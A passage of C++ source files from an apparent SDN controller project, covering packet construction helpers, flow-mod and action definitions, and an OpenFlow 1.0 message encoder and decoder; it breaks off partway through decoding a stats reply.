  out << eth.src.toString() << " -> " << eth.dst.toString();
  if (arp) {
    out << " arp(" << (arp->op == 1 ? "req" : "rep") << " "
        << arp->senderIp.toString() << " -> " << arp->targetIp.toString()
        << ")";
  } else if (ipv4) {
    out << " ip(" << ipv4->src.toString() << " -> " << ipv4->dst.toString();
    if (tcp) {
      out << " tcp " << tcp->srcPort << "->" << tcp->dstPort;
      if (tcp->flags & tcpflags::kSyn) out << " SYN";
      if (tcp->flags & tcpflags::kAck) out << " ACK";
      if (tcp->flags & tcpflags::kRst) out << " RST";
      if (tcp->flags & tcpflags::kFin) out << " FIN";
    } else if (udp) {
      out << " udp " << udp->srcPort << "->" << udp->dstPort;
    }
    out << ")";
  }
  if (!payload.empty()) out << " +" << payload.size() << "B";
  return out.str();
}

Packet Packet::makeArpRequest(MacAddress senderMac, Ipv4Address senderIp,
                              Ipv4Address targetIp) {
  Packet pkt;
  pkt.eth.src = senderMac;
  pkt.eth.dst = MacAddress::fromUint64(0xffffffffffffULL);
  pkt.eth.etherType = static_cast<std::uint16_t>(EtherType::kArp);
  pkt.arp = ArpHeader{.op = 1,
                      .senderMac = senderMac,
                      .senderIp = senderIp,
                      .targetMac = MacAddress{},
                      .targetIp = targetIp};
  return pkt;
}

Packet Packet::makeArpReply(MacAddress senderMac, Ipv4Address senderIp,
                            MacAddress targetMac, Ipv4Address targetIp) {
  Packet pkt;
  pkt.eth.src = senderMac;
  pkt.eth.dst = targetMac;
  pkt.eth.etherType = static_cast<std::uint16_t>(EtherType::kArp);
  pkt.arp = ArpHeader{.op = 2,
                      .senderMac = senderMac,
                      .senderIp = senderIp,
                      .targetMac = targetMac,
                      .targetIp = targetIp};
  return pkt;
}

Packet Packet::makeTcp(MacAddress srcMac, MacAddress dstMac, Ipv4Address src,
                       Ipv4Address dst, std::uint16_t srcPort,
                       std::uint16_t dstPort, std::uint8_t flags,
                       Bytes payload) {
  Packet pkt;
  pkt.eth.src = srcMac;
  pkt.eth.dst = dstMac;
  pkt.eth.etherType = static_cast<std::uint16_t>(EtherType::kIpv4);
  pkt.ipv4 = Ipv4Header{.src = src,
                        .dst = dst,
                        .proto = static_cast<std::uint8_t>(IpProto::kTcp),
                        .ttl = 64};
  pkt.tcp = TcpHeader{
      .srcPort = srcPort, .dstPort = dstPort, .seq = 0, .ack = 0, .flags = flags};
  pkt.payload = std::move(payload);
  return pkt;
}

Packet Packet::makeUdp(MacAddress srcMac, MacAddress dstMac, Ipv4Address src,
                       Ipv4Address dst, std::uint16_t srcPort,
                       std::uint16_t dstPort, Bytes payload) {
  Packet pkt;
  pkt.eth.src = srcMac;
  pkt.eth.dst = dstMac;
  pkt.eth.etherType = static_cast<std::uint16_t>(EtherType::kIpv4);
  pkt.ipv4 = Ipv4Header{.src = src,
                        .dst = dst,
                        .proto = static_cast<std::uint8_t>(IpProto::kUdp),
                        .ttl = 64};
  pkt.udp = UdpHeader{.srcPort = srcPort, .dstPort = dstPort};
  pkt.payload = std::move(payload);
  return pkt;
}

}  // namespace sdnshield::of
