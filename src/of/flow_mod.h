// Flow-mod message and flow table entry definitions.
#pragma once

#include <cstdint>
#include <string>

#include "of/actions.h"
#include "of/match.h"

namespace sdnshield::of {

/// An application identifier, threaded through cookies for ownership
/// tracking. App id 0 is reserved for the controller kernel.
using AppId = std::uint32_t;
inline constexpr AppId kKernelAppId = 0;

enum class FlowModCommand {
  kAdd,
  kModify,        ///< Modify actions of all entries with overlapping match.
  kModifyStrict,  ///< Modify actions of the entry with identical match+prio.
  kDelete,        ///< Delete all entries subsumed by the match.
  kDeleteStrict,  ///< Delete the entry with identical match+prio.
};

std::string toString(FlowModCommand command);

struct FlowMod {
  FlowModCommand command = FlowModCommand::kAdd;
  FlowMatch match;
  std::uint16_t priority = 0;
  ActionList actions;
  std::uint64_t cookie = 0;  ///< Carries the issuing app id.
  std::uint32_t idleTimeout = 0;
  std::uint32_t hardTimeout = 0;

  friend bool operator==(const FlowMod&, const FlowMod&) = default;
  std::string toString() const;
};

/// An installed flow entry, including counters and (virtual-time) ages used
/// for idle/hard timeout expiry.
struct FlowEntry {
  FlowMatch match;
  std::uint16_t priority = 0;
  ActionList actions;
  std::uint64_t cookie = 0;
  std::uint32_t idleTimeout = 0;  ///< 0 = never idles out.
  std::uint32_t hardTimeout = 0;  ///< 0 = never hard-expires.
  std::uint64_t packetCount = 0;
  std::uint64_t byteCount = 0;
  std::uint32_t ageSeconds = 0;      ///< Virtual seconds since install.
  std::uint32_t idleSeconds = 0;     ///< Virtual seconds since last hit.

  std::string toString() const;
};

}  // namespace sdnshield::of
