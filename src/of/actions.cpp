#include "of/actions.h"

#include <algorithm>
#include <sstream>

namespace sdnshield::of {

std::string toString(const Action& action) {
  struct Visitor {
    std::string operator()(const OutputAction& a) const {
      switch (a.port) {
        case ports::kFlood:
          return "output(FLOOD)";
        case ports::kController:
          return "output(CONTROLLER)";
        default:
          return "output(" + std::to_string(a.port) + ")";
      }
    }
    std::string operator()(const SetFieldAction& a) const {
      std::string value;
      switch (a.field) {
        case MatchField::kEthSrc:
        case MatchField::kEthDst:
          value = a.macValue.toString();
          break;
        case MatchField::kIpSrc:
        case MatchField::kIpDst:
          value = a.ipValue.toString();
          break;
        default:
          value = std::to_string(a.intValue);
          break;
      }
      return "set(" + toString(a.field) + "=" + value + ")";
    }
    std::string operator()(const DropAction&) const { return "drop"; }
  };
  return std::visit(Visitor{}, action);
}

std::string toString(const ActionList& actions) {
  std::ostringstream out;
  out << "[";
  for (std::size_t i = 0; i < actions.size(); ++i) {
    if (i > 0) out << ", ";
    out << toString(actions[i]);
  }
  out << "]";
  return out.str();
}

bool hasOutput(const ActionList& actions) {
  return std::any_of(actions.begin(), actions.end(), [](const Action& a) {
    return std::holds_alternative<OutputAction>(a);
  });
}

bool modifiesHeaders(const ActionList& actions) {
  return std::any_of(actions.begin(), actions.end(), [](const Action& a) {
    return std::holds_alternative<SetFieldAction>(a);
  });
}

bool modifiesField(const ActionList& actions, MatchField field) {
  return std::any_of(actions.begin(), actions.end(), [&](const Action& a) {
    const auto* set = std::get_if<SetFieldAction>(&a);
    return set != nullptr && set->field == field;
  });
}

bool isDrop(const ActionList& actions) {
  return !hasOutput(actions) && !modifiesHeaders(actions);
}

}  // namespace sdnshield::of
