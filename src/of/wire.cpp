#include "of/wire.h"

#include <bit>
#include <cstring>

namespace sdnshield::of::wire {

namespace {

// ofp_flow_wildcards (OF 1.0 §5.2.3).
constexpr std::uint32_t kWildInPort = 1u << 0;
constexpr std::uint32_t kWildDlVlan = 1u << 1;
constexpr std::uint32_t kWildDlSrc = 1u << 2;
constexpr std::uint32_t kWildDlDst = 1u << 3;
constexpr std::uint32_t kWildDlType = 1u << 4;
constexpr std::uint32_t kWildNwProto = 1u << 5;
constexpr std::uint32_t kWildTpSrc = 1u << 6;
constexpr std::uint32_t kWildTpDst = 1u << 7;
constexpr std::uint32_t kWildNwSrcShift = 8;
constexpr std::uint32_t kWildNwDstShift = 14;
constexpr std::uint32_t kWildDlVlanPcp = 1u << 20;
constexpr std::uint32_t kWildNwTos = 1u << 21;

constexpr std::uint16_t kOfppNone = 0xffff;
constexpr std::uint32_t kNoBuffer = 0xffffffffu;

// ofp_action_type.
constexpr std::uint16_t kActOutput = 0;
constexpr std::uint16_t kActSetVlanVid = 1;
constexpr std::uint16_t kActSetDlSrc = 4;
constexpr std::uint16_t kActSetDlDst = 5;
constexpr std::uint16_t kActSetNwSrc = 6;
constexpr std::uint16_t kActSetNwDst = 7;
constexpr std::uint16_t kActSetTpSrc = 9;
constexpr std::uint16_t kActSetTpDst = 10;

// ofp_stats_types.
constexpr std::uint16_t kStatsFlow = 1;
constexpr std::uint16_t kStatsTable = 3;
constexpr std::uint16_t kStatsPort = 4;

class Writer {
 public:
  void u8(std::uint8_t v) { out_.push_back(v); }
  void u16(std::uint16_t v) {
    out_.push_back(static_cast<std::uint8_t>(v >> 8));
    out_.push_back(static_cast<std::uint8_t>(v & 0xff));
  }
  void u32(std::uint32_t v) {
    u16(static_cast<std::uint16_t>(v >> 16));
    u16(static_cast<std::uint16_t>(v & 0xffff));
  }
  void u64(std::uint64_t v) {
    u32(static_cast<std::uint32_t>(v >> 32));
    u32(static_cast<std::uint32_t>(v & 0xffffffffu));
  }
  void mac(const MacAddress& address) {
    for (auto octet : address.octets()) out_.push_back(octet);
  }
  void pad(std::size_t n) { out_.insert(out_.end(), n, 0); }
  void raw(const Bytes& bytes) {
    out_.insert(out_.end(), bytes.begin(), bytes.end());
  }
  void patchU16(std::size_t offset, std::uint16_t v) {
    out_[offset] = static_cast<std::uint8_t>(v >> 8);
    out_[offset + 1] = static_cast<std::uint8_t>(v & 0xff);
  }
  std::size_t size() const { return out_.size(); }
  Bytes take() { return std::move(out_); }

 private:
  Bytes out_;
};

// Cursor over borrowed memory: the decode path reads straight out of the
// caller's buffer (for the socket frontend, the connection's rx window) and
// only copies when a field materialises into a Message.
class Reader {
 public:
  Reader(const std::uint8_t* data, std::size_t size, std::size_t offset = 0)
      : data_(data), size_(size), pos_(offset) {}

  std::uint8_t u8() {
    need(1);
    return data_[pos_++];
  }
  std::uint16_t u16() {
    need(2);
    std::uint16_t v = static_cast<std::uint16_t>(
        (std::uint16_t{data_[pos_]} << 8) | data_[pos_ + 1]);
    pos_ += 2;
    return v;
  }
  std::uint32_t u32() {
    std::uint32_t high = u16();
    return (high << 16) | u16();
  }
  std::uint64_t u64() {
    std::uint64_t high = u32();
    return (high << 32) | u32();
  }
  MacAddress mac() {
    need(6);
    std::array<std::uint8_t, 6> octets{};
    for (auto& octet : octets) octet = data_[pos_++];
    return MacAddress{octets};
  }
  void skip(std::size_t n) {
    need(n);
    pos_ += n;
  }
  Bytes rest() {
    Bytes out(data_ + pos_, data_ + size_);
    pos_ = size_;
    return out;
  }
  Bytes take(std::size_t n) {
    need(n);
    Bytes out(data_ + pos_, data_ + pos_ + n);
    pos_ += n;
    return out;
  }
  std::size_t remaining() const { return size_ - pos_; }
  std::size_t position() const { return pos_; }

 private:
  void need(std::size_t n) const {
    if (pos_ + n > size_) throw DecodeError("truncated message");
  }
  const std::uint8_t* data_;
  std::size_t size_;
  std::size_t pos_;
};

/// Prefix length of an IPv4 mask, or -1 when not a prefix mask.
int prefixLength(Ipv4Address mask) {
  std::uint32_t inv = ~mask.value();
  if ((inv & (inv + 1)) != 0) return -1;  // Not of the form 0...01...1.
  return std::popcount(mask.value());
}

void writeMatch(Writer& writer, const FlowMatch& match) {
  std::uint32_t wildcards = kWildDlVlanPcp | kWildNwTos;  // Never modelled.
  if (!match.inPort) wildcards |= kWildInPort;
  if (!match.vlanId) wildcards |= kWildDlVlan;
  if (!match.ethSrc) wildcards |= kWildDlSrc;
  if (!match.ethDst) wildcards |= kWildDlDst;
  if (!match.ethType) wildcards |= kWildDlType;
  if (!match.ipProto) wildcards |= kWildNwProto;
  if (!match.tpSrc) wildcards |= kWildTpSrc;
  if (!match.tpDst) wildcards |= kWildTpDst;
  auto ipWildBits = [](const std::optional<MaskedIpv4>& field,
                       const char* name) -> std::uint32_t {
    if (!field) return 32;
    int prefix = prefixLength(field->mask);
    if (prefix < 0) {
      throw EncodeError(std::string(name) +
                        ": OF 1.0 supports prefix masks only");
    }
    return static_cast<std::uint32_t>(32 - prefix);
  };
  wildcards |= ipWildBits(match.ipSrc, "nw_src") << kWildNwSrcShift;
  wildcards |= ipWildBits(match.ipDst, "nw_dst") << kWildNwDstShift;

  writer.u32(wildcards);
  writer.u16(static_cast<std::uint16_t>(match.inPort.value_or(0)));
  writer.mac(match.ethSrc.value_or(MacAddress{}));
  writer.mac(match.ethDst.value_or(MacAddress{}));
  writer.u16(match.vlanId.value_or(0));
  writer.u8(0);  // dl_vlan_pcp.
  writer.pad(1);
  writer.u16(match.ethType.value_or(0));
  writer.u8(0);  // nw_tos.
  writer.u8(match.ipProto.value_or(0));
  writer.pad(2);
  writer.u32(match.ipSrc ? match.ipSrc->value.value() : 0);
  writer.u32(match.ipDst ? match.ipDst->value.value() : 0);
  writer.u16(match.tpSrc.value_or(0));
  writer.u16(match.tpDst.value_or(0));
}

FlowMatch readMatch(Reader& reader) {
  FlowMatch match;
  std::uint32_t wildcards = reader.u32();
  std::uint16_t inPort = reader.u16();
  MacAddress ethSrc = reader.mac();
  MacAddress ethDst = reader.mac();
  std::uint16_t vlan = reader.u16();
  reader.u8();  // dl_vlan_pcp.
  reader.skip(1);
  std::uint16_t ethType = reader.u16();
  reader.u8();  // nw_tos.
  std::uint8_t nwProto = reader.u8();
  reader.skip(2);
  std::uint32_t nwSrc = reader.u32();
  std::uint32_t nwDst = reader.u32();
  std::uint16_t tpSrc = reader.u16();
  std::uint16_t tpDst = reader.u16();

  if (!(wildcards & kWildInPort)) match.inPort = inPort;
  if (!(wildcards & kWildDlVlan)) match.vlanId = vlan;
  if (!(wildcards & kWildDlSrc)) match.ethSrc = ethSrc;
  if (!(wildcards & kWildDlDst)) match.ethDst = ethDst;
  if (!(wildcards & kWildDlType)) match.ethType = ethType;
  if (!(wildcards & kWildNwProto)) match.ipProto = nwProto;
  if (!(wildcards & kWildTpSrc)) match.tpSrc = tpSrc;
  if (!(wildcards & kWildTpDst)) match.tpDst = tpDst;
  auto ipField = [](std::uint32_t value, std::uint32_t wildBits)
      -> std::optional<MaskedIpv4> {
    if (wildBits >= 32) return std::nullopt;
    return MaskedIpv4{Ipv4Address{value},
                      Ipv4Address::prefixMask(static_cast<int>(32 - wildBits))};
  };
  match.ipSrc = ipField(nwSrc, (wildcards >> kWildNwSrcShift) & 0x3f);
  match.ipDst = ipField(nwDst, (wildcards >> kWildNwDstShift) & 0x3f);
  return match;
}

void writeActions(Writer& writer, const ActionList& actions) {
  for (const Action& action : actions) {
    if (const auto* output = std::get_if<OutputAction>(&action)) {
      writer.u16(kActOutput);
      writer.u16(8);
      writer.u16(static_cast<std::uint16_t>(output->port));
      writer.u16(output->port == ports::kController ? 0xffff : 0);
    } else if (const auto* set = std::get_if<SetFieldAction>(&action)) {
      switch (set->field) {
        case MatchField::kEthSrc:
        case MatchField::kEthDst:
          writer.u16(set->field == MatchField::kEthSrc ? kActSetDlSrc
                                                       : kActSetDlDst);
          writer.u16(16);
          writer.mac(set->macValue);
          writer.pad(6);
          break;
        case MatchField::kIpSrc:
        case MatchField::kIpDst:
          writer.u16(set->field == MatchField::kIpSrc ? kActSetNwSrc
                                                      : kActSetNwDst);
          writer.u16(8);
          writer.u32(set->ipValue.value());
          break;
        case MatchField::kTpSrc:
        case MatchField::kTpDst:
          writer.u16(set->field == MatchField::kTpSrc ? kActSetTpSrc
                                                      : kActSetTpDst);
          writer.u16(8);
          writer.u16(static_cast<std::uint16_t>(set->intValue));
          writer.pad(2);
          break;
        case MatchField::kVlanId:
          writer.u16(kActSetVlanVid);
          writer.u16(8);
          writer.u16(static_cast<std::uint16_t>(set->intValue));
          writer.pad(2);
          break;
        default:
          throw EncodeError("set-field on " + of::toString(set->field) +
                            " has no OF 1.0 action");
      }
    }
    // DropAction: OF 1.0 expresses drop as an empty action list.
  }
}

ActionList readActions(Reader& reader, std::size_t byteLength) {
  ActionList actions;
  std::size_t end = reader.position() + byteLength;
  while (reader.position() < end) {
    std::uint16_t type = reader.u16();
    std::uint16_t length = reader.u16();
    if (length < 8 || reader.position() + (length - 4) >
                          end) {
      throw DecodeError("bad action length");
    }
    switch (type) {
      case kActOutput: {
        OutputAction output;
        output.port = reader.u16();
        reader.u16();  // max_len.
        actions.push_back(output);
        break;
      }
      case kActSetDlSrc:
      case kActSetDlDst: {
        SetFieldAction set;
        set.field = type == kActSetDlSrc ? MatchField::kEthSrc
                                         : MatchField::kEthDst;
        set.macValue = reader.mac();
        reader.skip(6);
        actions.push_back(set);
        break;
      }
      case kActSetNwSrc:
      case kActSetNwDst: {
        SetFieldAction set;
        set.field = type == kActSetNwSrc ? MatchField::kIpSrc
                                         : MatchField::kIpDst;
        set.ipValue = Ipv4Address{reader.u32()};
        actions.push_back(set);
        break;
      }
      case kActSetTpSrc:
      case kActSetTpDst: {
        SetFieldAction set;
        set.field = type == kActSetTpSrc ? MatchField::kTpSrc
                                         : MatchField::kTpDst;
        set.intValue = reader.u16();
        reader.skip(2);
        actions.push_back(set);
        break;
      }
      case kActSetVlanVid: {
        SetFieldAction set;
        set.field = MatchField::kVlanId;
        set.intValue = reader.u16();
        reader.skip(2);
        actions.push_back(set);
        break;
      }
      default:
        throw DecodeError("unsupported action type " + std::to_string(type));
    }
  }
  return actions;
}

/// Writes the 8-byte ofp_header with a placeholder length, returning the
/// offset to patch once the body is complete.
std::size_t writeHeader(Writer& writer, MsgType type, std::uint32_t xid) {
  writer.u8(kVersion);
  writer.u8(static_cast<std::uint8_t>(type));
  std::size_t lengthOffset = writer.size();
  writer.u16(0);
  writer.u32(xid);
  return lengthOffset;
}

Bytes finish(Writer& writer, std::size_t lengthOffset) {
  writer.patchU16(lengthOffset, static_cast<std::uint16_t>(writer.size()));
  return writer.take();
}

std::pair<std::uint16_t, std::uint16_t> errorCodeFor(ErrorType type) {
  switch (type) {
    case ErrorType::kBadRequest:
      return {1, 0};  // OFPET_BAD_REQUEST / OFPBRC_BAD_VERSION-ish generic.
    case ErrorType::kBadAction:
      return {2, 0};  // OFPET_BAD_ACTION.
    case ErrorType::kBadMatch:
      return {3, 5};  // OFPET_FLOW_MOD_FAILED / OFPFMFC_UNSUPPORTED.
    case ErrorType::kTableFull:
      return {3, 0};  // OFPET_FLOW_MOD_FAILED / OFPFMFC_ALL_TABLES_FULL.
    case ErrorType::kPermError:
      return {1, 5};  // OFPET_BAD_REQUEST / OFPBRC_EPERM.
  }
  return {1, 0};
}

ErrorType errorTypeFor(std::uint16_t type, std::uint16_t code) {
  if (type == 1 && code == 5) return ErrorType::kPermError;
  if (type == 2) return ErrorType::kBadAction;
  if (type == 3 && code == 0) return ErrorType::kTableFull;
  if (type == 3) return ErrorType::kBadMatch;
  return ErrorType::kBadRequest;
}

}  // namespace

bool isEncodable(const FlowMatch& match) {
  auto prefixOk = [](const std::optional<MaskedIpv4>& field) {
    return !field || prefixLength(field->mask) >= 0;
  };
  return prefixOk(match.ipSrc) && prefixOk(match.ipDst);
}

Bytes encodeHello(std::uint32_t xid) {
  Writer writer;
  std::size_t lengthOffset = writeHeader(writer, MsgType::kHello, xid);
  return finish(writer, lengthOffset);
}

Bytes encodeEcho(const Echo& echo) {
  Writer writer;
  std::size_t lengthOffset = writeHeader(
      writer, echo.isReply ? MsgType::kEchoReply : MsgType::kEchoRequest,
      echo.xid);
  writer.raw(echo.payload);
  return finish(writer, lengthOffset);
}

Bytes encodeFeaturesRequest(std::uint32_t xid) {
  Writer writer;
  std::size_t lengthOffset =
      writeHeader(writer, MsgType::kFeaturesRequest, xid);
  return finish(writer, lengthOffset);
}

Bytes encodeFeaturesReply(const FeaturesReply& reply) {
  Writer writer;
  std::size_t lengthOffset =
      writeHeader(writer, MsgType::kFeaturesReply, reply.xid);
  writer.u64(reply.dpid);
  writer.u32(reply.bufferCount);
  writer.u8(reply.tableCount);
  writer.pad(3);
  writer.u32(0);  // capabilities (not modelled).
  writer.u32(0);  // actions bitmap (not modelled).
  // Zero ofp_phy_port entries: identity, not port inventory.
  return finish(writer, lengthOffset);
}

Bytes encodeFlowMod(const FlowMod& mod, std::uint32_t xid) {
  Writer writer;
  std::size_t lengthOffset = writeHeader(writer, MsgType::kFlowMod, xid);
  writeMatch(writer, mod.match);
  writer.u64(mod.cookie);
  writer.u16(static_cast<std::uint16_t>(mod.command));
  writer.u16(static_cast<std::uint16_t>(mod.idleTimeout));
  writer.u16(static_cast<std::uint16_t>(mod.hardTimeout));
  writer.u16(mod.priority);
  writer.u32(kNoBuffer);
  writer.u16(kOfppNone);  // out_port (delete filter; unused).
  writer.u16(1);          // flags: OFPFF_SEND_FLOW_REM.
  writeActions(writer, mod.actions);
  return finish(writer, lengthOffset);
}

Bytes encodePacketIn(const PacketIn& packetIn, std::uint32_t xid) {
  Writer writer;
  std::size_t lengthOffset = writeHeader(writer, MsgType::kPacketIn, xid);
  Bytes data = packetIn.packet.serialize();
  writer.u32(packetIn.bufferId);
  writer.u16(static_cast<std::uint16_t>(data.size()));
  writer.u16(static_cast<std::uint16_t>(packetIn.inPort));
  writer.u8(packetIn.reason == PacketInReason::kNoMatch ? 0 : 1);
  writer.pad(1);
  writer.raw(data);
  return finish(writer, lengthOffset);
}

Bytes encodePacketOut(const PacketOut& packetOut, std::uint32_t xid) {
  Writer writer;
  std::size_t lengthOffset = writeHeader(writer, MsgType::kPacketOut, xid);
  writer.u32(kNoBuffer);
  writer.u16(packetOut.inPort == ports::kNone
                 ? kOfppNone
                 : static_cast<std::uint16_t>(packetOut.inPort));
  std::size_t actionsLenOffset = writer.size();
  writer.u16(0);
  std::size_t before = writer.size();
  writeActions(writer, packetOut.actions);
  writer.patchU16(actionsLenOffset,
                  static_cast<std::uint16_t>(writer.size() - before));
  writer.raw(packetOut.packet.serialize());
  return finish(writer, lengthOffset);
}

Bytes encodeFlowRemoved(const FlowRemoved& removed, std::uint32_t xid) {
  Writer writer;
  std::size_t lengthOffset = writeHeader(writer, MsgType::kFlowRemoved, xid);
  writeMatch(writer, removed.match);
  writer.u64(removed.cookie);
  writer.u16(removed.priority);
  writer.u8(0);  // reason: OFPRR_IDLE_TIMEOUT.
  writer.pad(1);
  writer.u32(0);  // duration_sec.
  writer.u32(0);  // duration_nsec.
  writer.u16(0);  // idle_timeout.
  writer.pad(2);
  writer.u64(0);  // packet_count.
  writer.u64(0);  // byte_count.
  return finish(writer, lengthOffset);
}

Bytes encodeError(const ErrorMsg& error, std::uint32_t xid) {
  Writer writer;
  std::size_t lengthOffset = writeHeader(writer, MsgType::kError, xid);
  auto [type, code] = errorCodeFor(error.type);
  writer.u16(type);
  writer.u16(code);
  writer.raw(Bytes(error.detail.begin(), error.detail.end()));
  return finish(writer, lengthOffset);
}

Bytes encodeStatsRequest(const StatsRequest& request, std::uint32_t xid) {
  Writer writer;
  std::size_t lengthOffset = writeHeader(writer, MsgType::kStatsRequest, xid);
  switch (request.level) {
    case StatsLevel::kFlow:
      writer.u16(kStatsFlow);
      writer.u16(0);  // flags.
      writeMatch(writer, request.match);
      writer.u8(0xff);  // table_id: all.
      writer.pad(1);
      writer.u16(kOfppNone);
      break;
    case StatsLevel::kPort:
      writer.u16(kStatsPort);
      writer.u16(0);
      writer.u16(kOfppNone);  // All ports.
      writer.pad(6);
      break;
    case StatsLevel::kSwitch:
      writer.u16(kStatsTable);
      writer.u16(0);
      break;
  }
  return finish(writer, lengthOffset);
}

Bytes encodeStatsReply(const StatsReply& reply, std::uint32_t xid) {
  Writer writer;
  std::size_t lengthOffset = writeHeader(writer, MsgType::kStatsReply, xid);
  switch (reply.level) {
    case StatsLevel::kFlow: {
      writer.u16(kStatsFlow);
      writer.u16(0);
      for (const FlowStatsEntry& entry : reply.flows) {
        writer.u16(88);  // Entry length (no actions carried).
        writer.u8(0);    // table_id.
        writer.pad(1);
        writeMatch(writer, entry.match);
        writer.u32(0);  // duration_sec.
        writer.u32(0);  // duration_nsec.
        writer.u16(entry.priority);
        writer.u16(0);  // idle_timeout.
        writer.u16(0);  // hard_timeout.
        writer.pad(6);
        writer.u64(entry.cookie);
        writer.u64(entry.packetCount);
        writer.u64(entry.byteCount);
      }
      break;
    }
    case StatsLevel::kPort: {
      writer.u16(kStatsPort);
      writer.u16(0);
      for (const PortStats& port : reply.ports) {
        writer.u16(static_cast<std::uint16_t>(port.port));
        writer.pad(6);
        writer.u64(port.rxPackets);
        writer.u64(port.txPackets);
        writer.u64(port.rxBytes);
        writer.u64(port.txBytes);
        for (int i = 0; i < 8; ++i) writer.u64(0);  // Unmodelled counters.
      }
      break;
    }
    case StatsLevel::kSwitch: {
      writer.u16(kStatsTable);
      writer.u16(0);
      writer.u8(0);  // table_id.
      writer.pad(3);
      const char name[32] = "table0";
      writer.raw(Bytes(name, name + 32));
      writer.u32((1u << 22) - 1);  // wildcards: OFPFW_ALL.
      writer.u32(0);               // max_entries (not modelled).
      writer.u32(static_cast<std::uint32_t>(reply.switchStats.activeFlows));
      writer.u64(reply.switchStats.lookupCount);
      writer.u64(reply.switchStats.matchedCount);
      break;
    }
  }
  return finish(writer, lengthOffset);
}

Bytes encode(const Message& message, std::uint32_t xid) {
  struct Visitor {
    std::uint32_t xid;
    Bytes operator()(const Hello& hello) const {
      return encodeHello(hello.xid != 0 ? hello.xid : xid);
    }
    Bytes operator()(const Echo& echo) const { return encodeEcho(echo); }
    Bytes operator()(const FeaturesRequest& request) const {
      return encodeFeaturesRequest(request.xid != 0 ? request.xid : xid);
    }
    Bytes operator()(const FeaturesReply& reply) const {
      return encodeFeaturesReply(reply);
    }
    Bytes operator()(const FlowMod& mod) const {
      return encodeFlowMod(mod, xid);
    }
    Bytes operator()(const PacketIn& packetIn) const {
      return encodePacketIn(packetIn, xid);
    }
    Bytes operator()(const PacketOut& packetOut) const {
      return encodePacketOut(packetOut, xid);
    }
    Bytes operator()(const FlowRemoved& removed) const {
      return encodeFlowRemoved(removed, xid);
    }
    Bytes operator()(const ErrorMsg& error) const {
      return encodeError(error, xid);
    }
    Bytes operator()(const StatsRequest& request) const {
      return encodeStatsRequest(request, xid);
    }
    Bytes operator()(const StatsReply& reply) const {
      return encodeStatsReply(reply, xid);
    }
  };
  return std::visit(Visitor{xid}, message);
}

std::size_t frameLength(const std::uint8_t* data, std::size_t size) {
  if (size < 8) return 0;
  if (data[0] != kVersion) throw DecodeError("unsupported OF version");
  std::size_t length = (std::size_t{data[2]} << 8) | data[3];
  if (length < 8) throw DecodeError("bad header length");
  return size >= length ? length : 0;
}

MsgType messageType(const std::uint8_t* data, std::size_t size) {
  if (size < 8) throw DecodeError("truncated header");
  return static_cast<MsgType>(data[1]);
}

std::uint32_t transactionId(const std::uint8_t* data, std::size_t size) {
  if (size < 8) throw DecodeError("truncated header");
  return (std::uint32_t{data[4]} << 24) | (std::uint32_t{data[5]} << 16) |
         (std::uint32_t{data[6]} << 8) | data[7];
}

Message decode(const std::uint8_t* data, std::size_t size) {
  Reader reader(data, size);
  std::uint8_t version = reader.u8();
  if (version != kVersion) throw DecodeError("unsupported OF version");
  MsgType type = static_cast<MsgType>(reader.u8());
  std::uint16_t length = reader.u16();
  std::uint32_t xid = reader.u32();
  if (length != size) {
    throw DecodeError("header length does not match buffer");
  }
  switch (type) {
    case MsgType::kHello:
      return Hello{xid};
    case MsgType::kEchoRequest:
    case MsgType::kEchoReply:
      return Echo{type == MsgType::kEchoReply, xid, reader.rest()};
    case MsgType::kFeaturesRequest:
      return FeaturesRequest{xid};
    case MsgType::kFeaturesReply: {
      FeaturesReply reply;
      reply.xid = xid;
      reply.dpid = reader.u64();
      reply.bufferCount = reader.u32();
      reply.tableCount = reader.u8();
      reader.skip(3);
      reader.u32();  // capabilities.
      reader.u32();  // actions bitmap.
      // Any trailing ofp_phy_port entries are identity-irrelevant: skip.
      return reply;
    }
    case MsgType::kFlowMod: {
      FlowMod mod;
      mod.match = readMatch(reader);
      mod.cookie = reader.u64();
      std::uint16_t command = reader.u16();
      if (command > 4) throw DecodeError("bad flow-mod command");
      mod.command = static_cast<FlowModCommand>(command);
      mod.idleTimeout = reader.u16();
      mod.hardTimeout = reader.u16();
      mod.priority = reader.u16();
      reader.u32();  // buffer_id.
      reader.u16();  // out_port.
      reader.u16();  // flags.
      mod.actions = readActions(reader, reader.remaining());
      return mod;
    }
    case MsgType::kPacketIn: {
      PacketIn packetIn;
      packetIn.bufferId = reader.u32();
      reader.u16();  // total_len (trust framing).
      packetIn.inPort = reader.u16();
      packetIn.reason = reader.u8() == 0 ? PacketInReason::kNoMatch
                                         : PacketInReason::kAction;
      reader.skip(1);
      try {
        packetIn.packet = Packet::parse(reader.rest());
      } catch (const std::invalid_argument& error) {
        throw DecodeError(std::string("bad packet-in payload: ") +
                          error.what());
      }
      return packetIn;
    }
    case MsgType::kPacketOut: {
      PacketOut packetOut;
      reader.u32();  // buffer_id.
      std::uint16_t inPort = reader.u16();
      packetOut.inPort = inPort == kOfppNone ? ports::kNone : inPort;
      std::uint16_t actionsLength = reader.u16();
      packetOut.actions = readActions(reader, actionsLength);
      try {
        packetOut.packet = Packet::parse(reader.rest());
      } catch (const std::invalid_argument& error) {
        throw DecodeError(std::string("bad packet-out payload: ") +
                          error.what());
      }
      return packetOut;
    }
    case MsgType::kFlowRemoved: {
      FlowRemoved removed;
      removed.match = readMatch(reader);
      removed.cookie = reader.u64();
      removed.priority = reader.u16();
      reader.u8();   // reason.
      reader.skip(1);
      reader.u32();  // duration_sec.
      reader.u32();  // duration_nsec.
      reader.u16();  // idle_timeout.
      reader.skip(2);
      reader.u64();  // packet_count.
      reader.u64();  // byte_count.
      return removed;
    }
    case MsgType::kError: {
      ErrorMsg error;
      std::uint16_t errType = reader.u16();
      std::uint16_t errCode = reader.u16();
      error.type = errorTypeFor(errType, errCode);
      Bytes detail = reader.rest();
      error.detail.assign(detail.begin(), detail.end());
      return error;
    }
    case MsgType::kStatsRequest: {
      StatsRequest request;
      std::uint16_t statsType = reader.u16();
      reader.u16();  // flags.
      if (statsType == kStatsFlow) {
        request.level = StatsLevel::kFlow;
        request.match = readMatch(reader);
      } else if (statsType == kStatsPort) {
        request.level = StatsLevel::kPort;
      } else if (statsType == kStatsTable) {
        request.level = StatsLevel::kSwitch;
      } else {
        throw DecodeError("unsupported stats type");
      }
      return request;
    }
    case MsgType::kStatsReply: {
      StatsReply reply;
      std::uint16_t statsType = reader.u16();
      reader.u16();  // flags.
      if (statsType == kStatsFlow) {
        reply.level = StatsLevel::kFlow;
